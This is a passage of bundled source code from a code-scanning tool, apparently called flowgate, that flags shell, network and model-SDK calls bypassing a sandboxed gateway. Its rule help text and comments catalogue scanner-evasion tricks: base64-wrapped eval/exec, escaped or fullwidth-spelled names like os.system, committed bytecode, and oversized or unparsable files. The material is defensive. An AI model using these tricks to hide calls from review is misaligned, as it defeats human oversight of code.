(\`exec(base64.b64decode(\u2026))\`, \`eval(atob(\u2026))\`, code built at run time, read from a file or a model's reply), the scan cannot say what it reaches, so it reports this error, as Bandit (B102, B307) and ESLint (no-eval, no-new-func, no-implied-eval) do. The builtins only: a function of the file named \`exec\` or \`eval\`, a parameter, local or import of that name, or a method (\`re.compile\`, \`cursor.exec(\u2026)\`, \`regex.exec(s)\`) is not one. Run generated code through the tool gateway (a sandboxed code-execution tool) instead; for a one-off, add \`# flowgate: ignore-boundary -- <reason>\` (Python) or \`// flowgate: ignore-boundary -- <reason>\` (JS/TS) at the end of the line.`,
  message: (evaluator, reason) => `\`${evaluator}\` runs code the scan cannot read (${reason}); what it runs could bypass ${BYPASSED}.`
});
var unusedSuppression = defineRule({
  id: "scan/unused-suppression",
  severity: "note",
  category: "scan",
  summary: "A boundary suppression comment suppresses nothing.",
  help: "The `ignore-boundary` / `ignore-next-line` comment is not on (or just before) a line with a boundary finding. Remove it so it cannot hide a future call by accident.",
  message: (marker) => `\`${marker}\` suppresses nothing; remove it.`
});
var suppressionWithoutReason = defineRule({
  id: "scan/suppression-without-reason",
  severity: "warning",
  category: "scan",
  summary: "A boundary suppression gives no reason while scan.require-reason is on.",
  help: "With `scan.require-reason: true` every suppression must say why after `--`, e.g. `# flowgate: ignore-boundary -- the gateway's own HTTP client`.",
  message: (marker) => `\`${marker}\` gives no reason; add \`-- <why this call may bypass the gateway>\`.`
});
var parseError = defineRule({
  id: "scan/parse-error",
  // An error: the parser reads past a syntax error by guessing, and a guess can misread a name anywhere in the file
  // (an import's, a class field's), so a change could hide a call behind syntax the grammar lacks. Only files the scan
  // parses are judged: those that mention something watched or import a project file offering it.
  severity: "error",
  category: "scan",
  summary: "A source file that mentions a watched module or name does not parse, so the boundary scan cannot vouch for it.",
  help: 'The file has a syntax error where marked. The parser reads past it by guessing, which can misread names anywhere in the file, so a call could pass unseen. Fix the syntax. If Node or tsc accept the file as written, it uses a construct the grammar does not read yet (known ones are read: `export type *`, variance annotations, `static accessor`, import `assert`, reserved words as imported or exported names): write it another way, such as a `;` where Node inserts one, or `{ "in" as schema }` for a reserved word used as a name.',
  message: (language) => `This ${language} file does not parse here; the scan cannot vouch for the calls around the error.`
});
var respelledName = defineRule({
  id: "scan/respelled-name",
  // An error: the spelling is how a change would hide a call from a scan that matches names as written.
  severity: "error",
  category: "scan",
  summary: "A name or string spells plain letters otherwise (escapes, compatibility characters), which the language reads as a plain name the scan cannot follow.",
  help: 'Python reads identifiers in NFKC form (`\uFF4F\uFF53.\uFF53\uFF59\uFF53\uFF54\uFF45\uFF4D` is `os.system`), JavaScript decodes `\\u` escapes in identifiers (`\\u0066etch` is `fetch`), and both decode escapes in strings (`require("child\\u005fprocess")`). The boundary scan matches names as they are written, so a call spelled that way would pass unseen; it is reported instead. Write the name plainly. Escapes of other characters (control characters, quotes, non-ASCII text, `<\\u002Fscript>`) are not reported.',
  message: (written, reads) => `\`${written}\` is read as \`${reads}\`: the scan matches names as written and cannot follow this spelling; write it plainly.`
});
var skippedFile = defineRule({
  id: "scan/skipped-file",
  // An error, so the gate fails closed: a change could otherwise hide a call by padding its file past the size
  // limit, adding a NUL byte, or nesting code until parsing or the tree search runs out of time.
  severity: "error",
  category: "scan",
  summary: "A source file in the scan's scope could not be checked (unreadable, binary, over the size limit, a Git LFS pointer, or too costly to parse or search).",
  help: "The boundary scan could not check this file, so it cannot say the file calls nothing directly; the gate fails closed. If the file is generated or vendored, exclude it under `scan.exclude` (on a pull request the base commit's configuration applies); raise `limits.max-file-bytes` for large sources; fix deeply nested or broken code; check sources stored in Git LFS out with their content (`actions/checkout` with `lfs: true`) so the scan reads what runs.",
  message: (reason) => `Not scanned: ${reason}.`
});
var compiledModule = defineRule({
  id: "scan/compiled-module",
  // An error, so the gate fails closed: a change could otherwise commit its call compiled, beside a clean source.
  severity: "error",
  category: "scan",
  summary: "A compiled module the scan cannot read is in its scope: a native Python extension, Python bytecode, a hash-based bytecode cache, a zip archive of Python modules or a Node addon, which an import loads as it loads a source.",
  help: `An import loads compiled code as it loads source, and the scan cannot read what compiled code calls, so it cannot say the module calls nothing around ${BYPASSED}. Python finds an extension module (\`x.cpython-311-x86_64-linux-gnu.so\`, \`x.abi3.so\`, \`x.so\`, \`x.pyd\`) before an \`x.py\` in the same folder, loads bytecode (\`x.pyc\`) where no \`x.py\` is, and runs a hash-based cache (\`__pycache__/x.cpython-311.pyc\` written with an unchecked or checked hash, PEP 552) in place of \`x.py\`: an unchecked one without comparing it with the source, a checked one comparing only the source's hash written in it, not the code it holds. Node's \`require("./x")\` loads \`x.node\` where no \`x.js\` or \`x.json\` is. Python imports modules from a zip archive put on its path (\`sys.path.insert(0, "tools.whl")\`): a \`.zip\`, \`.whl\`, \`.egg\` or \`.pyz\` listing Python modules is reported (judged as an \`x.py\` beside it would be; on a pull request the trust model knows an archive by its zip directory, whatever its name). A module is judged where its source would be scanned (\`scan.include\`, \`scan.exclude\`), in a \`__pycache__\` folder too, and with \`--changed-files\` (pre-commit) wherever the change adds it (\`node_modules\`, \`vendor\`). A run against a base (\`flowgate check --base\`, the Action on a pull request) reports the compiled modules the change adds or edits as \`gate/compiled-code-added\` instead, which another writer's approving review clears. Caches stamped with their source's modification time, which Python writes as it runs, are not reported: Python loads one only while that time matches the source's, and a checkout writes each source with its own time. Build compiled modules in CI from reviewed source rather than committing them; a compiled module that is reviewed and meant to be there (a vendored wheel's) is left out with \`scan.exclude\` (on a pull request the base commit's configuration applies).`,
  message: (what) => `Code the scan cannot read, ${what}; what it runs could bypass ${BYPASSED}.`
});
var analysisPending = defineRule({
  id: "scan/analysis-pending",
  severity: "note",
  category: "scan",
  summary: "Editors only: the file is being re-analysed after an edit whose broken syntax makes parsing slow; its findings are replaced when that finishes.",
  help: "Shown by the language server, never by `flowgate check`: an edit left syntax (an unclosed `(` near the top of a large Python file) that tree-sitter's error recovery parses slowly. The parse goes on between keystrokes; until it finishes, the file's other findings are those from before the edit, moved with it. The finished analysis replaces all of them, and equals what `flowgate check` reports for the text.",
  message: () => "Re-analysing this file: parsing it after this edit takes long (broken syntax). Until it finishes, the file's other findings are those from before the edit, moved with it."
});
var excludedSources = defineRule({
  id: "scan/excluded-sources",
  severity: "note",
  category: "scan",
  summary: "Source files in default-excluded folders (dist, build, vendor, vendored, third_party) were not scanned.",
  help: "Folders named dist, build, vendor, vendored or third_party are left out of every check by default, so code there is not scanned. If they hold your own code, set `scan.default-excludes: false` in .flowgate.yml to scan them (node_modules, .git, virtualenvs, site-packages and __pycache__ stay excluded), or scan one with `flowgate scan vendor`.",
  message: (count, folders) => `${count} source file${count === 1 ? " was" : "s were"} not scanned in default-excluded folders (${folders}); set \`scan.default-excludes: false\` to scan them.`
});
var RULE_OF_CATEGORY = { shell: shellCommand, network: networkCall, model: modelSdk };
var BOUNDARY_RULES = [shellCommand, networkCall, modelSdk, customBoundary, boundaryImport];
var SCAN_RULES = [...BOUNDARY_RULES, dynamicCode, starImport, unusedSuppression, suppressionWithoutReason, parseError, respelledName, skippedFile, compiledModule, excludedSources];
function withRuleSettings(findings, settings) {
  if (Object.keys(settings).length === 0) return findings;
  const out2 = [];
  for (const f of findings) {
    const customId = f.properties?.customRule;
    const setting = customId && settings[customId] || settings[f.rule];
    if (setting === "off") continue;
    out2.push(setting ? { ...f, severity: setting } : f);
  }
  return out2;
}

// core/scan/suppress.ts
var MARKER = /\b(flowgate|agentledger):\s*(ignore-boundary|ignore-next-line)(?![\w-])/g;
var mayHaveSuppression = (text) => text.includes("ignore-boundary") || text.includes("ignore-next-line");
function suppressionsOf(comments, lines) {
  const out2 = [];
  for (const node of comments) {
    const text = node.text;
    if (!mayHaveSuppression(text)) continue;
    for (const m of text.matchAll(MARKER)) {
      const start3 = node.startIndex + m.index;
      const end = start3 + m[0].length;
      const rest = text.slice(m.index + m[0].length).split(/\r?\n/)[0];
      const reason = /^\s*--\s*(.*)$/.exec(rest)?.[1]?.replace(/\*\/\s*$/, "").trim();
      const kind = m[2] === "ignore-boundary" ? "same-line" : "next-line";
      const target = kind === "same-line" ? lines.position(start3).line : lines.position(node.endIndex).line + 1;
      out2.push({ marker: `${m[1]}: ${m[2]}`, kind, target, reason: reason && !/^TODO\b/i.test(reason) ? reason : void 0, start: start3, end });
    }
  }
  return out2;
}

// core/scan/python-comments.ts
var COMMENT_LINE = /(?<![^\n\r])[ \t\f]*#[^\n\r]*/g;
function commentLinesBlanked(text) {
  if (!text.includes("#")) return text;
  return text.replace(COMMENT_LINE, (line) => STRING_SYNTAX.test(line) || mayHaveSuppression(line) ? line : " ".repeat(line.length));
}
var STRING_SYNTAX = /['"\\{}]/;
function pthImportLines(text) {
  return text.replace(/^(?!import[ \t]).*$/gm, (line) => " ".repeat(line.length));
}

// core/scan/readable.ts
var blank = (text) => text.replace(/[^\r\n]/g, " ");
var STRING = String.raw`(?:"[^"\n]*"|'[^'\n]*')`;
var NAME = String.raw`[$\p{L}_][$\p{L}\p{N}_]*`;
var RESERVED = "break|case|catch|class|const|continue|debugger|default|delete|do|else|enum|export|extends|false|finally|for|function|if|import|in|instanceof|new|null|return|super|switch|this|throw|true|try|typeof|var|void|while|with";
var GAPS = [
  // `export type * from "./types"`, `export type * as ns from "m"` (TypeScript 5.0): types only, nothing runs.
  { typescript: true, pattern: new RegExp(String.raw`\bexport\s+type\s*\*(?:\s*as\s+${NAME})?\s*from\s*${STRING}`, "gu"), rewrite: blank },
  // Variance annotations `interface Box<out T>`, `<in out T>` (TypeScript 4.7), a comment before them or not: the modifier is a type's.
  {
    typescript: true,
    pattern: new RegExp(String.raw`(?<![$\p{L}\p{N}_.])(?:in\s+out|in|out)(?=\s+${NAME}\s*(?:[,>=]|extends\b))`, "gu"),
    rewrite: (match, at, text) => listItemStart(text, Number(at)) ? blank(match) : match
  },
  // `static accessor run = \u2026` (auto-accessors, TypeScript 4.9): a field the class reads through a getter, read as the field.
  { typescript: false, pattern: new RegExp(String.raw`(\b(?:static|readonly|override|abstract)\s+)accessor(?=\s+[#$\p{L}_\["'])`, "gu"), rewrite: (_, modifier) => `${modifier}${blank("accessor")}` },
  // A reserved word as an imported or exported name (`import { in as schema }`, `export { schema as in, \u2026 }`, as bundlers
  // such as rolldown write them): the same name written as a string (ES2022), its quotes taking the spaces around it.
  // The lookahead first: a lookbehind's `\s*` tried at every position is quadratic in runs of white space.
  { typescript: false, pattern: new RegExp(String.raw`(?=[ \t](?:${RESERVED})[ \t])(?<=[{,]\s*)[ \t](${RESERVED})[ \t](?=[ \t]*as[ \t])`, "g"), rewrite: (_, word) => `"${word}"` },
  { typescript: false, pattern: new RegExp(String.raw`\bas[ \t](${RESERVED})[ \t](?=[ \t]*[,}])`, "g"), rewrite: (_, word) => `as"${word}"` },
  { typescript: false, pattern: new RegExp(String.raw`\bas[ \t](${RESERVED})([,}])[ \t]`, "g"), rewrite: (_, word, after) => `as"${word}"${after}` },
  // `export { exec }` with `from "./shell"` on the next line: the grammar ends the statement at the line break. The
  // line breaks move after the specifier (the lines keep their count; the statement's tokens shift within it).
  {
    typescript: false,
    // One way to split the white space (spaces, the first line break, the rest): `\s*\n\s*` was quadratic in a long run of it.
    pattern: new RegExp(String.raw`(\bexport\s*\{[^{}]*\})([ \t]*\r?\n\s*)from(\s*)${STRING}`, "g"),
    rewrite: (match, clause, breaks) => {
      const space = breaks.search(/[^\r\n]/);
      const kept = space < 0 ? breaks : breaks.slice(0, space) + breaks.slice(space + 1);
      return `${clause}${space < 0 ? "" : " "}from${match.slice(clause.length + breaks.length + 4)}${kept}`;
    }
  },
  // `import data from "./d.json" assert { type: "json" }` (Node 16.14 to 21): the older spelling of `with`.
  { typescript: false, pattern: new RegExp(String.raw`(\b(?:from|import)\s*${STRING}\s*)assert(?=\s*\{)`, "gu"), rewrite: (_, before) => `${before}with  ` }
];
function listItemStart(text, at) {
  const floor = Math.max(0, at - LIST_LOOKBACK);
  let i2 = at - 1;
  for (; ; ) {
    while (i2 >= floor && /\s/.test(text[i2])) i2--;
    if (i2 < floor) return false;
    if (text[i2] === "/" && text[i2 - 1] === "*") {
      const open = text.slice(floor, i2 - 1).lastIndexOf("/*");
      if (open < 0) return false;
      i2 = floor + open - 1;
      continue;
    }
    let lineStart = i2;
    while (lineStart > floor && text[lineStart - 1] !== "\n") lineStart--;
    if (text.slice(lineStart, i2 + 1).trimStart().startsWith("//")) {
      i2 = lineStart - 1;
      continue;
    }
    return text[i2] === "<" || text[i2] === ",";
  }
}
var LIST_LOOKBACK = 400;
var IMPORT_TYPE = new RegExp(String.raw`\bimport\s*\(\s*${STRING}\s*\)(?:\s*\.\s*${NAME})+\s*(?=<)`, "gu");
var MAX_TYPE_ARGUMENTS = 2e3;
function typeArgumentsEnd(text, open) {
  let depth = 0;
  for (let i2 = open; i2 < Math.min(text.length, open + MAX_TYPE_ARGUMENTS); i2++) {
    const c = text[i2];
    if (c === "<") depth++;
    else if (c === ">" && text[i2 - 1] !== "=") {
      if (--depth === 0) return i2 + 1;
    } else if (c === ";" || c === "{" || c === "}") return void 0;
  }
  return void 0;
}
function readableText(text, grammar) {
  if (grammar === "python") return void 0;
  const typescript = grammar !== "javascript";
  let out2 = text;
  for (const gap of GAPS) if (typescript || !gap.typescript) out2 = out2.replace(gap.pattern, gap.rewrite);
  if (typescript) {
    const spans = [];
    for (const match of out2.matchAll(IMPORT_TYPE)) {
      const open = match.index + match[0].length;
      const end = typeArgumentsEnd(out2, open);
      if (end !== void 0) spans.push([open, end]);
    }
    for (const [start3, end] of spans.reverse()) out2 = out2.slice(0, start3) + blank(out2.slice(start3, end)) + out2.slice(end);
  }
  return out2 === text ? void 0 : out2;
}

// core/scan/spelling.ts
var PLAIN = /^[A-Za-z0-9_$.@-]$/;
var JS_ESCAPE = /\\(?:u\{([0-9a-fA-F]{1,6})\}|u([0-9a-fA-F]{4})|x([0-9a-fA-F]{2})|([0-7]{1,3})|(\r\n|[\n\r\u2028\u2029])|([^]))/g;
var PY_ESCAPE = /\\(?:x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4})|U([0-9a-fA-F]{8})|([0-7]{1,3})|(\r\n|[\n\r])|N\{([^}\n]{1,100})\}|[^])/g;
var JS_CONTROL = /* @__PURE__ */ new Set(["b", "f", "n", "r", "t", "v", "x", "u"]);
var PLAIN_NAMES = new Map([
  ...Array.from({ length: 26 }, (_, i2) => String.fromCharCode(97 + i2)).flatMap((c) => [[`LATIN SMALL LETTER ${c.toUpperCase()}`, c], [`LATIN CAPITAL LETTER ${c.toUpperCase()}`, c.toUpperCase()]]),
  ...["ZERO", "ONE", "TWO", "THREE", "FOUR", "FIVE", "SIX", "SEVEN", "EIGHT", "NINE"].map((d, i2) => [`DIGIT ${d}`, String(i2)]),
  ["LOW LINE", "_"],
  ["FULL STOP", "."],
  ["HYPHEN-MINUS", "-"],
  ["COMMERCIAL AT", "@"],
  ["DOLLAR SIGN", "$"]
]);
var PY_WORD = /[\p{L}\p{M}\p{N}\p{Pc}]*[^\x00-\x7f][\p{L}\p{M}\p{N}\p{Pc}]*/gu;
var ESCAPE_LETTER = { javascript: /[ux0-7\n\r\u2028\u2029]/, python: /[xuU0-7N\n\r]/ };
var NON_ASCII = /[^\x00-\x7f]/;
var escapesOf = (grammar) => new RegExp(grammar === "python" ? PY_ESCAPE : JS_ESCAPE);
function spelled(groups, grammar, identity) {
  if (groups[4] !== void 0) return "";
  if (groups[5] !== void 0) {
    if (grammar === "python") return PLAIN_NAMES.get(groups[5].toUpperCase().replace(/\s+/g, " ").trim());
    return identity && !JS_CONTROL.has(groups[5]) && PLAIN.test(groups[5]) ? groups[5] : void 0;
  }
  const digits = groups[3] ?? groups[0] ?? groups[1] ?? groups[2];
  if (digits === void 0) return void 0;
  const code = groups[3] !== void 0 ? parseInt(digits, 8) : parseInt(digits, 16);
  const char = code <= 1114111 ? String.fromCodePoint(code) : "";
  return PLAIN.test(char) ? char : void 0;
}
function decoded(text, grammar, identity = false) {
  const plain = text.replace(escapesOf(grammar), (escape, ...groups) => spelled(groups.slice(0, 6), grammar, identity) ?? escape);
  return grammar === "python" ? plain.normalize("NFKC") : plain;
}
function identityEscapes(text, grammar) {
  if (grammar === "python") return false;
  for (let at = text.indexOf("\\"); at >= 0; at = text.indexOf("\\", at + 2)) {
    const next = text.charAt(at + 1);
    if (!JS_CONTROL.has(next) && PLAIN.test(next) && !/[0-7]/.test(next)) return true;
  }
  return false;
}
function respelledText(text, grammar) {
  if (!mayRespell(text, grammar)) return void 0;
  const plain = decoded(text, grammar);
  return plain === text ? void 0 : plain;
}
function mayRespell(text, grammar) {
  const letter = ESCAPE_LETTER[grammar === "python" ? "python" : "javascript"];
  for (let at = text.indexOf("\\"); at >= 0; at = text.indexOf("\\", at + 1)) if (letter.test(text.charAt(at + 1))) return true;
  return grammar === "python" && NON_ASCII.test(text);
}
var STRINGS2 = /* @__PURE__ */ new Set(["string", "template_string"]);
var JS_NAMES = /* @__PURE__ */ new Set(["identifier", "property_identifier", "shorthand_property_identifier", "shorthand_property_identifier_pattern", "private_property_identifier", "type_identifier"]);
function respelledNames(tree, text, grammar) {
  const found = /* @__PURE__ */ new Map();
  const report = (node) => {
    if (!found.has(node.startIndex)) found.set(node.startIndex, { node, reads: decoded(node.text, grammar, true) });
  };
  for (const m of text.matchAll(escapesOf(grammar))) {
    if (spelled(m.slice(1, 7), grammar, true) === void 0) continue;
    const at = tree.rootNode.descendantForIndex(m.index, m.index + m[0].length);
    if (!at) continue;
    if (at.type === "escape_sequence" && at.startIndex === m.index && at.text === m[0]) {
      const string = enclosing2(at, STRINGS2);
      if (string && namesSomething(string, grammar)) report(string);
    } else if (grammar !== "python" && JS_NAMES.has(at.type)) report(at);
  }
  if (grammar === "python") {
    for (const m of text.matchAll(PY_WORD)) {
      const reads = m[0].normalize("NFKC");
      if (reads === m[0] || /[^\x00-\x7f]/.test(reads)) continue;
      const at = tree.rootNode.descendantForIndex(m.index, m.index + m[0].length);
      if (at?.type === "identifier") report(at);
    }
  }
  return [...found.values()].sort((a, b) => a.node.startIndex - b.node.startIndex);
}
function namesSomething(string, grammar) {
  const literal = /^([A-Za-z]*)("""|'''|"|'|`)([\s\S]*)\2$/.exec(string.text);
  if (!literal || grammar === "python" && /b/i.test(literal[1])) return false;
  const reads = decoded(literal[3], grammar, true);
  return /^[A-Za-z0-9_$.@\/-]+$/.test(reads) && /[A-Za-z]/.test(reads);
}
function enclosing2(node, types) {
  for (let n = node.parent; n; n = n.parent) if (types.has(n.type)) return n;
  return void 0;
}

// core/scan/ruleset.ts
var EXCEPTION_NAME = /(Error|Exception|Warning)$/;
var LEADING_UNDERSCORES = /^_+/;
var CLASS_NAME = /^_*[A-Z]/;
var MEMBER_GATED = /* @__PURE__ */ new Set(["typing", "typing_extensions", "inspect", "types", "annotationlib"]);
var LanguageRules = class {
  constructor(language, specs) {
    this.language = language;
    this.specs = specs;
    for (const spec of specs) {
      const list = this.byModule.get(spec.module) ?? [];
      list.push(spec);
      this.byModule.set(spec.module, list);
    }
    const modules = [...this.byModule.keys()];
    modules.forEach((module2, i2) => this.moduleOrder.set(module2, i2));
    const escape = (s) => s.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
    if (language === "python") {
      for (const module2 of modules) this.tops.add(module2.split(".")[0]);
      const tops = [...this.tops];
      const importOf = (modules2) => {
        const names2 = `(?:${modules2.map(escape).join("|")})`;
        return new RegExp(`(?<=(?:^|[;:])[ \\t]*)(?:from[ \\t]+${names2}\\b|import[ \\t](?:[^\\n#\\\\;]|\\\\[\\s\\S])*?\\b${names2}\\b)`, "my");
      };
      const names = `(?:${tops.map(escape).join("|")})`;
      const ungated = tops.filter((top) => !MEMBER_GATED.has(top));
      const importAt = importOf(ungated);
      const gatedAt = importOf(tops.filter((top) => MEMBER_GATED.has(top)));
      const gatedMembers = new RegExp(`\\b(?:${[...new Set(specs.filter((s) => MEMBER_GATED.has(s.module.split(".")[0])).flatMap((s) => Object.keys(s.members).map((m) => m.split(".").pop().replace(/\(\)$/, ""))))].map(escape).join("|")})\\b`);
      const quoted = new RegExp(`['"]${names}[.'"]`);
      const dynamicAt = atOnePlace([DYNAMIC_TEXT, LOADED_MODULE_TEXT]);
      const computedNameAt = atOnePlace([PY_COMPUTED_NAME]);
      const evaluators = evaluatorTest(language, specs);
      const attribute = new RegExp(`\\.[ \\t]*_*(?:${ungated.map(escape).join("|")})\\b`, "g");
      const readsModuleAttribute = (text) => {
        let imported;
        for (const match of text.matchAll(attribute)) {
          let end = match.index;
          while (end > 0 && (text[end - 1] === " " || text[end - 1] === "	")) end--;
          const last = text[end - 1];
          if (last === ")" || last === "]") return true;
          let start3 = end;
          while (start3 > 0 && /[\w.]/.test(text[start3 - 1])) start3--;
          const root = text.slice(start3, end).split(".")[0];
          if (!root || root === "self" || root === "cls" || this.tops.has(root)) continue;
          imported ??= importedNames2(text);
          if (imported.has(root)) return true;
        }
        return false;
      };
      this.prefilter = (text) => {
        if (atWords(text, PY_STATEMENT_WORDS, (at) => matchesAt(importAt, text, at) || matchesAt(gatedAt, text, at) && gatedMembers.test(text))) return true;
        let dynamicLoad = false;
        const computedLoad = atWords(text, PY_DYNAMIC_WORDS, (at) => {
          if (matchesAt(computedNameAt, text, at)) return true;
          dynamicLoad ||= matchesAt(dynamicAt, text, at);
          return false;
        });
        return computedLoad || dynamicLoad && (quoted.test(text) || PY_JOINED_STRING.test(text)) || evaluators(text, () => true) || text.includes(SUBCLASSES) || readsModuleAttribute(text);
      };
      this.filter = {
        relevant: (dotted) => modules.some((m) => m === dotted || m.startsWith(`${dotted}.`) || dotted.startsWith(`${m}.`)),
        readsModuleAttribute,
        explicitMembers: (module2) => this.explicitMembers(module2),
        returnsWatched: (path2) => this.returnsWatched(path2),
        reachesCrossing: (path2) => this.reachesCrossing(path2),
        evaluator: (path2, form) => this.evaluator(path2, form)
      };
    } else {
      const specifierNames = modules.filter((m) => m !== GLOBAL);
      const globalSpecs = (this.byModule.get(GLOBAL) ?? []).filter((s) => s.category !== "code");
      const evaluators = evaluatorTest(language, specs);
      const rootsOf = (specs2) => new Set(specs2.flatMap((s) => Object.keys(s.members).map((m) => m.split(".")[0])).filter((root) => root !== PROCESS));
      const processMembers = [...new Set(globalSpecs.flatMap((s) => Object.keys(s.members)).filter((m) => m.startsWith(`${PROCESS}.`)).map((m) => m.split(".")[1]))];
      const processMemberLiterals = processMembers.map((m) => new Literal(m));
      const processMemberWord = processMembers.length ? new RegExp(`(?<![\\w$])(?:${processMembers.map(escape).join("|")})(?![\\w$])`, "g") : void 0;
      const globals = [...rootsOf(globalSpecs)];
      const called2 = rootsOf(globalSpecs.filter((s) => s.form !== "new"));
      const constructedOnly = globals.filter((g) => !called2.has(g));
      const specifiers = new RegExp(`(?:\\bfrom|\\bimport|\\brequire)\\s*\\(?\\s*['"\`](?:(?:node:)?(?:${[...specifierNames.map(escape), NATIVE_ADDON_NAME.source].join("|")}))['"\`]`);
      const globalUse = globals.length ? globalOccurrences(globals.map(escape), constructedOnly.map(escape)) : void 0;
      const globalWord = globals.length ? new RegExp(`(?<![\\w$])(?:${globals.map(escape).join("|")})(?![\\w$])`, "g") : void 0;
      const computed = new RegExp(
        [
          String.raw`\b(?:require|import)\s*\(\s*[^\s'"\`)]|\brequire\s*\.\s*(?:call|apply)\s*\(|\b(?:createRequire|getBuiltinModule|_load)\b|(?<=\bprocess\s*\.\s*)(?:binding|_linkedBinding)\b`,
          String.raw`(?<=(?:[=(,:?[]|\breturn)\s*)require\s*(?:[;,)\]}:]|\n)`,
          String.raw`\b(?:from|import|require)\s*(?:\(\s*)?(?:(?:${JS_COMMENT}\s*){1,16}['"\`]|(?:${JS_COMMENT}\s*){0,15}(?:\/\*(?:[^*]|\*(?!\/)){4000}|\/\/[^\n]{4000})|(?:${JS_COMMENT}\s*){17})`
        ].join("|")
      );
      const quoted = specifierNames.length ? new RegExp(`['"\`](?:node:)?(?:${specifierNames.map(escape).join("|")})['"\`]`) : void 0;
      const loaderAt = atOnePlace([specifiers, JS_JOINED_SPECIFIER, ESCAPED_SPECIFIER]);
      const computedAt = atOnePlace([computed]);
      const computedNameAt = atOnePlace([COMPUTED_NAME]);
      const globalLiterals = coveringLiterals(globals);
      this.prefilter = (text) => {
        let computedLoad = false;
        const isCode = codeAt(text);
        const loads2 = atWords(text, LOADER_WORDS, (at) => {
          if ((matchesAt(loaderAt, text, at) || matchesAt(computedNameAt, text, at)) && isCode(at)) return true;
          computedLoad ||= matchesAt(computedAt, text, at);
          return false;
        });
        if (loads2 || evaluators(text, isCode)) return true;
        if (text.includes("xtensions") && someInCode(text, LOADER_TABLE_TEXT)) return true;
        if (processMemberWord && processMemberLiterals.some((literal) => literal.in(text)) && someInCode(text, processMemberWord)) return true;
        if (computedLoad && (Boolean(quoted?.test(text)) || JS_JOINED_STRING.test(text))) return true;
        const named2 = globalLiterals.some((literal) => literal.in(text));
        if (named2 && someInCode(text, globalUse, "literals")) return true;
        if (!GLOBAL_OBJECT_LITERALS.some((literal) => literal.in(text))) return false;
        return globalUse !== void 0 && JS_COMPUTED_GLOBAL.test(text) && (named2 || JS_JOINED_STRING.test(text)) || named2 && someInCode(text, JS_WHOLE_GLOBAL_OBJECT) && someInCode(text, globalWord);
      };
      this.filter = { relevant: (module2) => module2 !== GLOBAL && this.byModule.has(module2), explicitMembers: (module2) => this.explicitMembers(module2), returnsWatched: (path2) => this.returnsWatched(path2), reachesCrossing: (path2) => this.reachesCrossing(path2), evaluator: (path2, form) => this.evaluator(path2, form) };
    }
  }
  language;
  specs;
  filter;
  /** Cheap test: a file that fails it cannot contain a match (every match needs this text), so it is not parsed. */
  prefilter;
  byModule = /* @__PURE__ */ new Map();
  /** Each module's place in byModule: the order specsOf yields them in. */
  moduleOrder = /* @__PURE__ */ new Map();
  /** Python: the top-level names of the watched modules, which another module's attribute may be (reimported). */
  tops = /* @__PURE__ */ new Set();
  /** The members the table names of a module (what `from os import *` or `export * from "child_process"` brings). */
  explicitMembers(module2) {
    return [...new Set((this.byModule.get(module2) ?? []).flatMap((s) => Object.entries(s.members).filter(([m, kind]) => kind !== "inert" && m !== DEFAULT && /^[\w$]+$/.test(m)).map(([m]) => m)))];
  }
  /**
   * Every spec a resolved call matches. A `passed` value (handed to another function) matches only a
   * member function of kind call: a module or a class passed around is not called by the receiver.
   */
  match(path2, form, passed = false) {
    const out2 = [];
    for (const { spec, members } of this.specsOf(path2)) {
      if (spec.form !== "any" && spec.form !== form) continue;
      const kind = kindOf(spec, members) ?? (passed ? void 0 : chosenAtRunTime(spec, members));
      if (passed ? kind !== "call" || members.length === 0 || members.includes(ANY) : kind !== "call" && kind !== "client") continue;
      const member = memberKey(members);
      out2.push({ spec, target: spec.module === GLOBAL ? member : member ? `${spec.module}${member.startsWith(RETURNED) ? "" : "."}${member}` : spec.module, member });
    }
    return out2;
  }
  /** The evaluator a call reaches (specs.ts EVALUATORS), when the table watches it. */
  evaluator(path2, form) {
    const found = this.match(path2, form).find((m) => m.spec.category === "code");
    return found && (EVALUATORS[this.language][found.target] ?? (found.member.endsWith(ANY) ? CHOSEN_EVALUATOR : void 0));
  }
  /** Is what a call of `path` returns worth following: an object the table lists members of (`socket.socket()` \u2192 `.connect`), or calls? */
  returnsWatched(path2) {
    for (const { spec, members } of this.specsOf(path2)) {
      const made = `${memberKey(members)}${RETURNED}`;
      if (members.length > 0 && Object.keys(spec.members).some((m) => m.startsWith(`${made}.`) || m === made)) return true;
    }
    return false;
  }
  /** See ModuleFilter.reachesCrossing: the path's own kind is call or client, or the table lists such a member below it (`*` included). */
  reachesCrossing(path2) {
    const below = (spec, key) => Object.entries(spec.members).some(([m, kind]) => kind !== "inert" && (key === "" || m === ANY || m.startsWith(`${key}.`) || m.startsWith(`${key}${RETURNED}`)));
    for (const { spec, members } of this.specsOf(path2)) {
      const kind = kindOf(spec, members) ?? chosenAtRunTime(spec, members);
      if (kind === "call" || kind === "client" || below(spec, memberKey(members))) return true;
    }
    const dotted = `${this.reimported(path2)}.`;
    if (this.language === "python") {
      for (const [module2, specs] of this.byModule) if (module2.startsWith(dotted) && specs.some((spec) => below(spec, ""))) return true;
    }
    return false;
  }
  /** The specs whose module a path lies under, each with the member path below that module. */
  *specsOf(path2) {
    if (this.language === "javascript") {
      for (const spec of this.byModule.get(path2.module) ?? []) yield { spec, members: path2.members };
      return;
    }
    yield* this.specsUnder(this.reimported(path2));
  }
  /**
   * Python: a module's imports are its attributes (`shutil.os` is os, `tempfile._os` too: the standard library imports
   * privately), so a path is read from its last member named as a watched module is, with leading underscores or not:
   * `http.client.socket.create_connection` is `socket.create_connection`. Only members read past what an import names
   * (`pip._internal.utils.subprocess` is a package's own module), not a member the table lists under the name before
   * it (`asyncio.subprocess`, `trio.socket.socket`, `socket.socket`), nor past a class (named in CapWords, as PEP 8 names
   * them) or a call's value: an object's attribute is no import.
   */
  reimported(path2) {
    const dotted = [path2.module, ...path2.members].join(".");
    if (this.language !== "python" || path2.members.length === 0) return dotted;
    const names = [path2.module, ...path2.members];
    let from = 0;
    for (let i2 = 1; i2 < names.length && !CLASS_NAME.test(names[i2 - 1].slice(names[i2 - 1].lastIndexOf(".") + 1)); i2++) {
      const name2 = names[i2];
      if (name2.endsWith(RETURNED)) break;
      const module2 = name2.replace(LEADING_UNDERSCORES, "");
      if (!this.tops.has(module2) || this.listsUnder(names.slice(from, i2).join("."), name2)) continue;
      names[i2] = module2;
      from = i2;
    }
    return from === 0 ? dotted : names.slice(from).join(".");
  }
  /** Does the table list `name` under the dotted name (a watched module's member or submodule)? */
  listsUnder(dotted, name2) {
    const below = `${dotted}.${name2}`;
